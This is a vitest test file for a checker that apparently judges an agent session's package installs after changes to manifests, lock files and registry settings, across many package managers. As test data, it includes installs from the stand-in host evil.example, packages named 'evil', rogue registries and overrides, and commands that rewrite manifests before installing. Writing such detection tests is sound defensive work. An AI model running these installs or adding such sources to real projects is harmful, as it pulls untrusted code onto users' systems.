// Manifests, lock files and settings that the session changed, and the install that follows: what was added is judged as added, what was there before is quiet.
import { describe, expect, it } from 'vitest';
import type { Baseline } from '../../../model/baseline.ts';
import { everythingOld } from '../../../model/baseline.ts';
import type { Disposition } from '../../../model/disposition.ts';
import { caseHostWith, judgeCase, whyCase } from '../../case-machine.ts';

type Files = Readonly<Record<string, string>>;
type Case = readonly [what: string, before: Files, now: Files, command: string, expected: Disposition];

/** Files in `before` had that text when the session began; what is only in `now` did not exist. */
function described(before: Files, now: Files): Baseline {
  const changed = new Set(Object.keys(now).filter((path) => now[path] !== before[path]));
  return {
    ...everythingOld,
    isOld: (path) => !changed.has(path),
    oldTexts: (path) => (before[path] === undefined ? [] : [before[path]]),
  };
}

function judged([, before, now, command]: Case) {
  const files = { ...before, ...now };
  return judgeCase(command, {
    host: caseHostWith(files),
    session: {
      made: () => false,
      downloaded: () => false,
      downloads: () => ({ paths: [], trees: [] }),
      foreignNames: () => new Set(),
      foreignSince: () => undefined,
      editing: () => false,
      started: () => false,
      writtenCode: () => [],
      runsLater: () => false,
      baseline: described(before, now),
    },
  });
}

const json = (value: unknown): string => JSON.stringify(value, null, 2);
const npm = (dependencies: object, more: object = {}): Files => ({
  '/repo/package.json': json({ name: 'app', dependencies, ...more }),
});
const react = { react: '^19.0.0' };
const lock = (resolved: string, more: object = {}): Files => ({
  '/repo/package-lock.json': json({
    lockfileVersion: 3,
    packages: { 'node_modules/react': { version: '19.0.0', resolved, integrity: 'sha512-a' }, ...more },
  }),
});
const REACT = 'https://registry.npmjs.org/react/-/react-19.0.0.tgz';
const one = (path: string, text: string): Files => ({ [path]: text });
const toml = (text: string): Files => one('/repo/pyproject.toml', `[project]\nname = "app"\n${text}`);
const cargo = (text: string): Files => one('/repo/Cargo.toml', `[package]\nname = "app"\n${text}`);

const CASES: readonly Case[] = [
  ['nothing changed', npm(react), npm(react), 'npm install', 'quiet'],
  ['a new name', npm(react), npm({ ...react, zod: '^4' }), 'npm install', 'review'],
  ['a new name, frozen', npm(react), npm({ ...react, zod: '^4' }), 'pnpm install', 'review'],
  ['a new name, yarn', npm(react), npm({ ...react, zod: '^4' }), 'yarn', 'review'],
  ['a new name, bun', npm(react), npm({ ...react, zod: '^4' }), 'bun install', 'review'],
  [
    'a new name, then its tests',
    npm(react, { scripts: { test: 'vitest' } }),
    npm({ ...react, zod: '^4' }, { scripts: { test: 'vitest' } }),
    'npm test',
    'quiet',
  ],
  ['another version', npm(react), npm({ react: '^20.0.0' }), 'npm install', 'review'],
  ['a name removed', npm({ ...react, zod: '^4' }), npm(react), 'npm install', 'quiet'],
  [
    'another order and spacing',
    npm({ ...react, zod: '^4' }),
    one('/repo/package.json', '{"dependencies":{"zod":"^4","react":"^19.0.0"},"name":"app"}'),
    'npm install',
    'quiet',
  ],
  ['a script that no install runs', npm(react), npm(react, { scripts: { lint: 'eslint .' } }), 'npm install', 'quiet'],
  ['a script that an install runs', npm(react), npm(react, { scripts: { postinstall: 'tsc -p .' } }), 'npm ci', 'review'],
  ['from a repository', npm(react), npm({ ...react, x: 'git+https://github.com/a/x.git' }), 'npm install', 'guarded'],
  ['from a shorthand', npm(react), npm({ ...react, x: 'a/x' }), 'pnpm i', 'guarded'],
  ['from a URL', npm(react), npm({ ...react, x: 'https://evil.example/x.tgz' }), 'yarn install', 'guarded'],
  ['a known name, now from a URL', npm(react), npm({ react: 'https://evil.example/x.tgz' }), 'npm i', 'guarded'],
  ['from outside the project', npm(react), npm({ ...react, x: 'file:../../tmp/x' }), 'npm install', 'guarded'],
  ['from inside the project', npm(react), npm({ ...react, x: 'file:./packages/x' }), 'npm install', 'quiet'],
  ['an override', npm(react), npm(react, { overrides: { scheduler: 'npm:evil@1' } }), 'npm install', 'review'],
  [
    'a member of the workspace',
    { ...npm(react, { workspaces: ['packages/*'] }), '/repo/packages/a/package.json': json({ name: 'a' }) },
    one('/repo/packages/a/package.json', json({ name: 'a', dependencies: { zod: '4' } })),
    'npm install',
    'review',
  ],
  ['a lock file of before', { ...npm(react), ...lock(REACT) }, {}, 'npm ci', 'quiet'],
  [
    'another server in the lock file',
    { ...npm(react), ...lock(REACT) },
    lock('https://evil.example/react.tgz'),
    'npm ci',
    'review',
  ],
  [
    'a repository in the lock file',
    { ...npm(react), ...lock(REACT) },
    lock('git+ssh://git@github.com/a/react.git#1'),
    'npm ci',
    'guarded',
  ],
  [
    'a new entry in the lock file',
    { ...npm(react), ...lock(REACT) },
    lock(REACT, { 'node_modules/x': { version: '1.0.0', resolved: 'https://registry.npmjs.org/x/-/x-1.0.0.tgz' } }),
    'npm ci',
    'review',
  ],
  [
    'an entry less in the lock file',
    { ...npm(react), ...lock(REACT, { 'node_modules/x': { version: '1.0.0' } }) },
    lock(REACT),
    'npm ci',
    'quiet',
  ],
  ['another registry', npm(react), one('/repo/.npmrc', 'registry=https://evil.example/\n'), 'npm install', 'review'],
  ['a registry of before', { ...npm(react), '/repo/.npmrc': 'registry=https://npm.acme.example/\n' }, {}, 'npm install', 'quiet'],
  ['a binary lock file', npm(react), one('/repo/bun.lockb', 'x'), 'bun install', 'review'],

  ['requirements of before', one('/repo/requirements.txt', 'flask==3\n'), {}, 'pip install -r requirements.txt', 'quiet'],
  [
    'a requirement more',
    one('/repo/requirements.txt', 'flask==3\n'),
    one('/repo/requirements.txt', 'flask==3\nevil\n'),
    'pip install -r requirements.txt',
    'review',
  ],
  [
    'a requirement less',
    one('/repo/requirements.txt', 'flask==3\nx\n'),
    one('/repo/requirements.txt', 'flask==3  # web\n'),
    'pip install -r requirements.txt',
    'quiet',
  ],
  [
    'a requirement in an included file',
    { '/repo/dev.txt': '-r requirements.txt\n', '/repo/requirements.txt': '' },
    one('/repo/requirements.txt', 'evil'),
    'python -m pip install -r dev.txt',
    'review',
  ],
  [
    'a requirement from a URL',
    one('/repo/requirements.txt', ''),
    one('/repo/requirements.txt', 'x @ https://evil.example/x.whl\n'),
    'uv pip install -r requirements.txt',
    'guarded',
  ],
  [
    'another index in requirements',
    one('/repo/requirements.txt', 'flask\n'),
    one('/repo/requirements.txt', '--extra-index-url https://evil.example\nflask\n'),
    'pip install -r requirements.txt',
    'review',
  ],
  [
    'a dependency of the project',
    toml('dependencies = ["flask"]\n'),
    toml('dependencies = ["flask", "evil"]\n'),
    'pip install -e .',
    'review',
  ],
  [
    'a setting of a tool',
    toml('dependencies = ["flask"]\n'),
    toml('dependencies = ["flask"]\n[tool.ruff]\nline-length = 100\n'),
    'pip install -e .',
    'quiet',
  ],
  ['a setting of a tool, uv', toml(''), toml('[tool.pytest.ini_options]\naddopts = "-q"\n'), 'uv sync', 'quiet'],
  [
    'a source, uv',
    toml('dependencies = ["x"]\n'),
    toml('dependencies = ["x"]\n[tool.uv.sources]\nx = { git = "https://github.com/a/x" }\n'),
    'uv sync',
    'guarded',
  ],
  ['an index, uv run', toml(''), toml('[[tool.uv.index]]\nurl = "https://evil.example/simple"\n'), 'uv run pytest', 'review'],
  ['a group, poetry', toml(''), toml('[tool.poetry.group.dev.dependencies]\nevil = "*"\n'), 'poetry install', 'review'],
  [
    'a build backend',
    toml('[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'),
    toml('[build-system]\nrequires = ["hatchling"]\nbuild-backend = "mine"\nbackend-path = ["."]\n'),
    'pip install .',
    'review',
  ],
  ['setup.py', one('/repo/setup.py', 'setup()\n'), one('/repo/setup.py', 'import os\nsetup()\n'), 'pip install .', 'review'],
  ['a lock file, poetry', one('/repo/poetry.lock', 'x'), one('/repo/poetry.lock', 'y'), 'poetry install', 'review'],
  [
    'a package, pipenv',
    one('/repo/Pipfile', '[packages]\nflask = "*"\n'),
    one('/repo/Pipfile', '[packages]\nflask = "*"\nevil = "*"\n'),
    'pipenv install',
    'review',
  ],
  [
    'a package, conda',
    one('/repo/environment.yml', 'dependencies:\n  - numpy\n'),
    one('/repo/environment.yml', 'dependencies:\n  - numpy\n  - evil\n'),
    'conda env update',
    'review',
  ],

  ['a crate', cargo(''), cargo('[dependencies]\nevil = "1"\n'), 'cargo build', 'review'],
  ['a crate, tested', cargo(''), cargo('[dependencies]\nevil = "1"\n'), 'cargo test', 'review'],
  [
    'a crate from a repository',
    cargo(''),
    cargo('[dependencies]\nevil = { git = "https://github.com/a/evil" }\n'),
    'cargo check',
    'guarded',
  ],
  ['a crate of the project', cargo(''), cargo('[dependencies]\nown = { path = "crates/own" }\n'), 'cargo build', 'quiet'],
  ['a crate from outside', cargo(''), cargo('[dependencies]\nown = { path = "/tmp/own" }\n'), 'cargo build', 'guarded'],
  ['a profile', cargo(''), cargo('[profile.release]\nlto = true\n'), 'cargo build', 'quiet'],
  [
    'a member',
    { ...cargo('[workspace]\nmembers = ["crates/*"]\n'), '/repo/crates/a/Cargo.toml': '[package]\nname = "a"\n' },
    one('/repo/crates/a/Cargo.toml', '[package]\nname = "a"\n[dependencies]\nevil = "1"\n'),
    'cargo test',
    'review',
  ],
  [
    'a source of crates',
    cargo(''),
    one('/repo/.cargo/config.toml', '[source.crates-io]\nreplace-with = "x"\n'),
    'cargo build',
    'review',
  ],
  [
    'a module',
    one('/repo/go.mod', 'module a\n'),
    one('/repo/go.mod', 'module a\n\nrequire example.org/evil v1.0.0\n'),
    'go build ./...',
    'review',
  ],
  [
    'a module replaced',
    one('/repo/go.mod', 'module a\nrequire b v1\n'),
    one('/repo/go.mod', 'module a\nrequire b v1\nreplace b => ../../tmp/b\n'),
    'go test ./...',
    'guarded',
  ],
  [
    'a version of Go',
    one('/repo/go.mod', 'module a\ngo 1.21\n'),
    one('/repo/go.mod', 'module a\n\ngo 1.24 // newer\n'),
    'go test ./...',
    'quiet',
  ],
  [
    'a package, composer',
    one('/repo/composer.json', '{}'),
    one('/repo/composer.json', '{"require":{"a/evil":"1"}}'),
    'composer install',
    'review',
  ],
  [
    'a repository, composer',
    one('/repo/composer.json', '{}'),
    one('/repo/composer.json', '{"repositories":[{"type":"vcs","url":"https://github.com/a/evil"}]}'),
    'composer update',
    'guarded',
  ],
  [
    'a step, composer',
    one('/repo/composer.json', '{}'),
    one('/repo/composer.json', '{"scripts":{"post-install-cmd":"php x.php"}}'),
    'composer install',
    'review',
  ],
  [
    'a gem',
    one('/repo/Gemfile', 'source "https://rubygems.org"\n'),
    one('/repo/Gemfile', 'source "https://rubygems.org"\ngem "evil"\n'),
    'bundle install',
    'review',
  ],
  [
    'a gem from a repository',
    one('/repo/Gemfile', 'source "https://rubygems.org"\n'),
    one('/repo/Gemfile', 'gem "x", git: "https://github.com/a/x"\n'),
    'bundle install',
    'guarded',
  ],
  [
    'a gem less',
    one('/repo/Gemfile', 'source "https://rubygems.org"\ngem "x"\n'),
    one('/repo/Gemfile', 'source "https://rubygems.org"\n'),
    'bundle install',
    'quiet',
  ],
  [
    'a dependency, mix',
    one('/repo/mix.exs', 'defp deps do\n[\n]\n'),
    one('/repo/mix.exs', 'defp deps do\n[\n{:evil, "~> 1.0"}\n]\n'),
    'mix deps.get',
    'review',
  ],
  [
    'a dependency, maven',
    one('/repo/pom.xml', '<project>\n</project>\n'),
    one('/repo/pom.xml', '<project>\n<dependency>\n<artifactId>evil</artifactId>\n</dependency>\n</project>\n'),
    'mvn test',
    'review',
  ],
  [
    'a property, maven',
    one('/repo/pom.xml', '<project>\n</project>\n'),
    one('/repo/pom.xml', '<project>\n<maven.compiler.release>21</maven.compiler.release>\n</project>\n'),
    'mvn test',
    'quiet',
  ],
  [
    'a dependency, gradle',
    one('/repo/build.gradle', 'dependencies {\n}\n'),
    one('/repo/build.gradle', 'dependencies {\n  implementation "a:evil:1"\n}\n'),
    'gradle build',
    'review',
  ],
  [
    'a repository, gradle',
    one('/repo/build.gradle.kts', ''),
    one('/repo/build.gradle.kts', 'maven { url = uri("https://evil.example/m2") }\n'),
    'gradle build',
    'guarded',
  ],
  [
    'a package, dotnet',
    one('/repo/App.csproj', '<Project>\n</Project>\n'),
    one('/repo/App.csproj', '<Project>\n<PackageReference Include="Evil" Version="1.0" />\n</Project>\n'),
    'dotnet build',
    'review',
  ],
  [
    'a property, dotnet',
    one('/repo/App.csproj', '<Project>\n</Project>\n'),
    one('/repo/App.csproj', '<Project>\n<Nullable>enable</Nullable>\n</Project>\n'),
    'dotnet build',
    'quiet',
  ],
  [
    'a source, nuget',
    one('/repo/App.csproj', '<Project />'),
    one('/repo/nuget.config', '<add key="x" value="https://evil.example" />'),
    'dotnet restore',
    'review',
  ],
  [
    'a package, swift',
    one('/repo/Package.swift', 'let package = Package(\n)\n'),
    one('/repo/Package.swift', 'let package = Package(\n.package(url: "https://github.com/a/evil", from: "1.0.0"),\n)\n'),
    'swift build',
    'guarded',
  ],
  [
    'a hook',
    one('/repo/.pre-commit-config.yaml', 'repos: []\n'),
    one('/repo/.pre-commit-config.yaml', 'repos:\n  - repo: https://github.com/a/evil\n    rev: v1\n    hooks:\n      - id: x\n'),
    'pre-commit run',
    'guarded',
  ],
  [
    'an import, deno',
    one('/repo/deno.json', '{}'),
    one('/repo/deno.json', '{"imports":{"x":"https://evil.example/x.ts"}}'),
    'deno install',
    'guarded',
  ],
  ['a task, deno', one('/repo/deno.json', '{}'), one('/repo/deno.json', '{"tasks":{"x":"deno lint"}}'), 'deno install', 'quiet'],

  [
    'changed in the same call',
    npm(react),
    {},
    `cat > package.json <<'E'\n${json({ dependencies: { ...react, evil: '1' } })}\nE\nnpm install`,
    'review',
  ],
  [
    'a URL in the same call',
    npm(react),
    {},
    `cat > package.json <<'E'\n${json({ dependencies: { evil: 'https://evil.example/x.tgz' } })}\nE\nnpm install`,
    'guarded',
  ],
  [
    'the same text in the same call',
    npm(react),
    {},
    `cat > package.json <<'E'\n${json({ name: 'app', dependencies: react })}\nE\nnpm install`,
    'quiet',
  ],
  ['changed unread in the same call', npm(react), {}, "sed -i 's/react/evil/' package.json && npm install", 'review'],
  ['requirements of the same call', {}, {}, 'echo evil > requirements.txt && pip install -r requirements.txt', 'review'],
  ['a crate in the same call', cargo(''), {}, 'printf \'[dependencies]\\nevil = "1"\\n\' >> Cargo.toml && cargo build', 'review'],
  [
    'a member in the same call',
    cargo(''),
    {},
    'mkdir -p crates/b && printf \'[dependencies]\\nevil = "1"\\n\' > crates/b/Cargo.toml && cargo build',
    'review',
  ],
  ['a source file in the same call', cargo(''), {}, 'echo "fn main(){}" > src/main.rs && cargo build', 'quiet'],
  ['after a pull', cargo(''), {}, 'git pull && cargo build', 'quiet'],

  ['named by a URL', {}, {}, 'npm install https://evil.example/x.tgz', 'guarded'],
  ['named by a repository', {}, {}, 'pip install git+https://github.com/a/evil', 'guarded'],
  ['named by a shorthand', {}, {}, 'npm install a/evil', 'guarded'],
  ['named by a path outside', {}, {}, 'npm install /tmp/evil', 'guarded'],
  ['named in the registry', {}, {}, 'npm install zod @types/node', 'review'],
  ['a tool by a repository', {}, {}, 'npx github:a/evil', 'guarded'],
];

describe('what the session added to what is installed', () => {
  it.each(CASES)('%s', (...row) => {
    const result = judged(row);
    expect({ disposition: result.disposition, why: result.disposition === row[4] ? '' : whyCase(result) }).toEqual({
      disposition: row[4],
      why: '',
    });
  });
});
